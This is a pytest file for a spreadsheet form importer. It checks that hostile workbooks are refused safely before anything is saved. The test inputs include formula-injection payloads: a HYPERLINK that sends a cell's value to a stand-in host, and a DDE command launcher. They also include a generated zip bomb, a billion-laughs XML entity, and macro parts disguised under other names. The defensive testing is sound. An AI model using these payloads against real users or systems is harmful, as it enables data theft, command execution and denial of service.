"""Hostile workbooks: formulas, files that are not XLSX, zip bombs, a million rows, macros, XML tricks.

Each is refused with a clear message (FormRefused, exit 2) before anything is
saved, within bounded time and memory.
"""

from __future__ import annotations

import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import answers
from forms_helpers import SHEET_HEAD, SHEET_TAIL, content_types, copy, edit, many_rows, package, table_cell
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from masterplan import api
from masterplan.cli import main
from masterplan.cli.form import form
from masterplan.forms import FormRefused, export_form, import_form
from masterplan.forms.safety import MAX_FILE_BYTES, MAX_ROWS, MAX_UNPACKED_BYTES


def _refused(path: Path, root: Path, match: str) -> None:
    before = answers(root, 2, "dinkes").read_bytes()
    with pytest.raises(FormRefused, match=match):
        import_form(path, root, person="retno")
    assert answers(root, 2, "dinkes").read_bytes() == before


@pytest.fixture
def workbook(example: Path, tmp_path: Path) -> Path:
    return export_form(example, 2, "dinkes", tmp_path / "dinkes.xlsx").path


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://contoh.invalid/?d="&A5,"klik")', "=cmd|' /C calc'!A0", "=1+1"],
)
def test_a_formula_is_refused_not_evaluated(example: Path, workbook: Path, formula: str) -> None:
    ref = table_cell(2, "programs", "partners", 1)
    edit(workbook, {ref: formula})
    _refused(workbook, example, re.escape(f"berisi rumus di {ref}; rumus tidak dijalankan"))


def test_every_formula_cell_is_named(example: Path, workbook: Path) -> None:
    cells = [table_cell(2, "programs", "partners", row) for row in range(1, 13)]
    edit(workbook, dict.fromkeys(cells, "=2*3"))
    with pytest.raises(FormRefused) as refused:
        import_form(workbook, example, person="retno")
    message = str(refused.value)
    assert cells[0] in message and cells[9] in message and "dan 2 sel lainnya" in message


def test_a_file_that_is_not_an_xlsx_is_refused(example: Path, tmp_path: Path) -> None:
    text = tmp_path / "isian.xlsx"
    text.write_text("kode;anggaran\nSG-01;100\n", encoding="utf-8")
    _refused(text, example, "bukan buku kerja Excel .xlsx; simpan ulang")
    old = tmp_path / "lama.xlsx"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    _refused(old, example, r"format \.xls lama atau berkas berkata sandi")
    broken = tmp_path / "rusak.xlsx"
    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    _refused(broken, example, "arsip rusak")
    document = tmp_path / "dokumen.xlsx"
    with zipfile.ZipFile(document, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            content_types(
                main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
            ),
        )
    _refused(document, example, "tidak memuat buku kerja spreadsheet")
    csv = tmp_path / "isian.csv"
    csv.write_text("a,b\n", encoding="utf-8")
    _refused(csv, example, r"akhiran \.csv")


def test_a_zip_bomb_is_refused_from_its_declared_size(example: Path, tmp_path: Path) -> None:
    zeros = b"\0" * (1024 * 1024)
    size = MAX_UNPACKED_BYTES // len(zeros) + 20
    bomb = package(tmp_path / "bom.xlsx", [SHEET_HEAD, *([zeros] * size), SHEET_TAIL])
    assert bomb.stat().st_size < 1024 * 1024  # small on disk, huge unpacked
    started = time.perf_counter()
    _refused(bomb, example, r"mengembang menjadi .* MB saat dibuka .*zip bomb")
    assert time.perf_counter() - started < 2


def test_a_file_too_large_is_not_even_read(example: Path, tmp_path: Path) -> None:
    big = tmp_path / "besar.xlsx"
    with big.open("wb") as handle:
        handle.truncate(MAX_FILE_BYTES + 1)  # sparse: costs no time or disk
    _refused(big, example, r"terlalu besar \(20.0 MB\); batasnya 20.0 MB")


def test_an_archive_of_many_members_is_refused(example: Path, tmp_path: Path) -> None:
    extra = {f"xl/media/gambar{n}.png": b"" for n in range(1200)}
    _refused(package(tmp_path / "banyak.xlsx", extra=extra), example, "berisi 1205 bagian, lebih dari 1000")


def test_a_million_rows_are_refused_fast_and_small(example: Path, tmp_path: Path) -> None:
    huge = package(tmp_path / "sejuta.xlsx", many_rows(1_000_000))
    with zipfile.ZipFile(huge) as archive:
        assert sum(i.file_size for i in archive.infolist()) < MAX_UNPACKED_BYTES  # the size limit lets it in
    started = time.perf_counter()
    tracemalloc.start()
    try:
        _refused(huge, example, f"lebih dari {MAX_ROWS:,} baris".replace(",", "."))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 10
    assert peak < 10 * 1024 * 1024


def test_rows_are_also_counted_while_reading(example: Path, tmp_path: Path) -> None:
    """A sheet whose rows skip ahead (``<row r="20000">``) passes the pre-scan but not the reader."""
    sparse = (
        SHEET_HEAD + b'<row r="1"><c r="A1"><v>1</v></c></row><row r="20000"><c r="A20000"><v>1</v></c></row>'
    )
    _refused(package(tmp_path / "loncat.xlsx", [sparse, SHEET_TAIL]), example, f"lebih dari {MAX_ROWS:,} baris".replace(",", "."))


def test_macros_are_refused(example: Path, workbook: Path, tmp_path: Path) -> None:
    _refused(copy(workbook, tmp_path / "bermakro.xlsm"), example, r"berisi makro \(berkas \.xlsm\)")
    with_vba = copy(workbook, tmp_path / "vba.xlsx")
    with zipfile.ZipFile(with_vba, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really")
    _refused(with_vba, example, r"berisi makro \(xl/vbaProject.bin\)")
    macro_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    _refused(package(tmp_path / "jenis.xlsx", types=content_types(main=macro_type)), example, "berisi makro")
    sheet4 = package(tmp_path / "xlm.xlsx", extra={"xl/macrosheets/sheet1.xml": b"<xm/>"})
    _refused(sheet4, example, "berisi makro")


def test_xml_entity_tricks_are_refused(example: Path, tmp_path: Path) -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    _refused(package(tmp_path / "entitas.xlsx", [laughs]), example, "tidak dapat dibaca sebagai buku kerja")


def test_a_workbook_without_masterplan_metadata_is_refused(example: Path, tmp_path: Path) -> None:
    plain = package(
        tmp_path / "biasa.xlsx", [SHEET_HEAD, b'<row r="1"><c r="A1"><v>1</v></c></row>', SHEET_TAIL]
    )
    _refused(plain, example, "bukan buku kerja kuesioner masterplan")


def test_the_command_line_refuses_with_exit_2_and_no_traceback(example: Path, tmp_path: Path) -> None:
    text = tmp_path / "isian.xlsx"
    text.write_text("bukan xlsx", encoding="utf-8")
    main.add_command(form)
    result = CliRunner().invoke(main, ["form", "import", str(text), str(example), "--as", "retno"])
    assert result.exit_code == 2
    assert result.stderr.startswith("masterplan: berkas isian.xlsx bukan buku kerja Excel .xlsx")
    assert "Traceback" not in result.output + result.stderr


def _with_member(workbook: Path, target: Path, member: str, data: bytes, relationship: str | None) -> Path:
    """``workbook`` plus ``member``; with ``relationship``, the workbook part points to it with that type."""
    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            content = source.read(item)
            if relationship and item.filename == "xl/_rels/workbook.xml.rels":
                link = (f'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
                        f'{relationship}" Target="{member.removeprefix("xl/")}"/>')
                content = content.replace(b"</Relationships>", link.encode() + b"</Relationships>")
            out.writestr(item, content)
        out.writestr(member, data)
    return target


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


@pytest.mark.parametrize(
    ("member", "data", "relationship", "named"),
    [
        ("xl/macro.bin", OLE, "vbaProject", "macro.bin"),  # the adversary's: a VBA part under another name
        ("xl/macro.bin", b"bukan OLE", "vbaProject", "macro.bin, hubungan vbaproject"),
        ("xl/media/image9.png", OLE, None, "xl/media/image9.png, objek OLE"),
        ("xl/x/y.dat", b"<xm/>", "xlMacrosheet", "hubungan xlmacrosheet"),
        ("xl/embeddings/oleObject1.bin", b"data", "oleObject", "hubungan oleobject"),
        ("xl/ctrl.xml", b"<ctrl/>", "ctrlProp", "hubungan ctrlprop"),
    ],
)
def test_macros_are_found_by_content_and_relationship_not_only_by_name(
    example: Path, workbook: Path, tmp_path: Path, member: str, data: bytes, relationship: str | None, named: str
) -> None:
    hostile = _with_member(workbook, tmp_path / "samaran.xlsx", member, data, relationship)
    _refused(hostile, example, "berisi makro .*" + re.escape(named))


def test_a_workbook_whose_region_code_was_edited_says_so(example: Path, workbook: Path) -> None:
    from openpyxl import load_workbook

    from masterplan.forms.layout import META_SHEET

    book = load_workbook(workbook)
    sheet = book[META_SHEET]
    row = next(r for r in range(1, 40) if sheet.cell(r, 1).value == "region")
    sheet.cell(row, 2).value = "kabupaten-sukamaju-lain"
    book.save(workbook)
    _refused(workbook, example, re.escape("kode daerah di lembar info (kabupaten-sukamaju-lain) tidak sama "
                                          "dengan kode workspace (kabupaten-sukamaju); lembar info telah diubah"))


def test_exit_codes_are_the_ones_the_guide_gives(example: Path, workbook: Path, tmp_path: Path) -> None:
    """docs/forms.md: 2 for a workbook that cannot be used, 1 when the workflow refuses it; nothing saved."""
    guide = (Path(__file__).parents[1] / "docs" / "forms.md").read_text()
    assert "(exit 2, nothing saved)" in guide and "exit 1" in guide
    runner = CliRunner()
    bad = tmp_path / "rusak.xlsx"
    bad.write_bytes(b"bukan xlsx")
    unusable = runner.invoke(main, ["form", "import", str(bad), str(example), "--as", "retno"])
    assert unusable.exit_code == 2, unusable.output
    before = answers(example, 2, "dinkes").read_bytes()
    no_rights = runner.invoke(main, ["form", "import", str(workbook), str(example), "--as", "agus"])
    assert no_rights.exit_code == 1 and "dinkes" in no_rights.output, no_rights.output
    answers(example, 2, "dinkes").write_bytes(before + b"# diubah sesudah ekspor\n")
    stale = runner.invoke(main, ["form", "import", str(workbook), str(example), "--as", "wahyu"])
    assert stale.exit_code == 1 and "--replace" in stale.output, stale.output
    assert answers(example, 2, "dinkes").read_bytes() == before + b"# diubah sesudah ekspor\n"


# --- property: whatever a person types into the cells, the import ends in a saved file that reads
# back or a FormRefused, never a traceback ---------------------------------------------------------

CELL_VALUES = st.one_of(
    st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=60),  # what a cell can hold
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(["1e300", "Rp 1.000.000.000.000.001", "=1+1", "@SUM(A1)", "\u202egnp", "  ", "SG-01"]),
)
COLUMNS = ["budget", "name", "partners", "baseline", "target", "opd", "horizon"]


@given(st.lists(st.tuples(st.sampled_from(COLUMNS), st.integers(1, 12), CELL_VALUES), min_size=1, max_size=4))
@settings(max_examples=20, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
def test_whatever_is_typed_imports_and_reads_back_or_is_refused(
    example: Path, workbook: Path, tmp_path: Path, typed: list[tuple[str, int, object]]
) -> None:
    changes = {table_cell(2, "programs", column, row): value for column, row, value in typed}
    target = edit(workbook, changes, target=tmp_path / "isian.xlsx")
    try:
        import_form(target, example, person="retno", replace=True)
    except FormRefused:
        return
    problems = [p for p in api.check(example).report if p.where.file == "answers/bimtek-2/dinkes.yaml"]
    assert not any(p.rule in ("yaml-syntax", "file-too-large", "yaml-too-many-nodes") for p in problems)
